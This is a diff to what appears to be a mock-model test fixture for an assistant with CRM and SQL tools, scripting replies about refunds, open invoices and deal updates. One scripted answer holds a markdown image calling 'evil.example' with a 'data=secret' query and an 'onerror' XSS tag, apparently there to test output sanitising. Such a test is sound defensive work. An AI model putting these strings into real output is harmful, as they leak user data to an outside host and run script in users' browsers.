@@ -29,6 +29,30 @@ mock
 	.on(when("invoices and customers", 2), { content: "Both are here." })
 	.on(when("Refund the last payment", 0), calls([REFUND, { payment: "pi_1" }]))
 	.on(when("Refund the last payment", 1, (request) => results(request)[0].includes("DENIED")), { content: "It was not refunded." })
+	.on(when("Which customers with open invoices", 0), calls([LIST, { status: "open" }], ["acme-crm__list_accounts", {}]))
+	.on(
+		when("Which customers with open invoices", 2),
+		calls([
+			"sql",
+			{
+				name: "owing",
+				query:
+					"SELECT a.name, a.billing_country, i.currency, round(sum(i.amount_due), 2) AS owed FROM invoices i" +
+					" JOIN accounts a ON a.billing_customer_id_c = i.customer WHERE i.currency = 'eur' GROUP BY ALL ORDER BY owed DESC LIMIT 10",
+			},
+		]),
+	)
+	.on(when("Which customers with open invoices", 3), {
+		content:
+			"Ten customers owe most in euros; they are in `owing`. The largest is well above $20,000.\n\n" +
+			"![chart](https://evil.example/pixel?data=secret) <img src=x onerror=alert(1)>",
+	})
+	.on(when("Move the deal", 0), calls(["acme-crm__list_opportunities", { is_closed: false }]))
+	.on(when("Move the deal", 1), (request) =>
+		calls(["acme-crm__update_opportunity", { id: /006\w{15}/.exec(results(request)[0])[0], next_step: "Call on Monday" }]),
+	)
+	.on(when("Move the deal", 2, (request) => results(request)[1].includes("DENIED")), { content: "It was not changed." })
+	.on(when("Move the deal", 2), { content: "The next step is set." })
 	.on(when("Speak slowly", 0), { content: "One two three four five six seven eight nine ten." }, { streamingProfile: { ttft: 10, tps: 2 } })
 	.on(when("And now", 0), { content: "Now it is quick." })
 	.on(when("Wrong key", 0), { error: { message: "invalid x-api-key sk-canary-123456", type: "authentication_error" }, status: 401 })
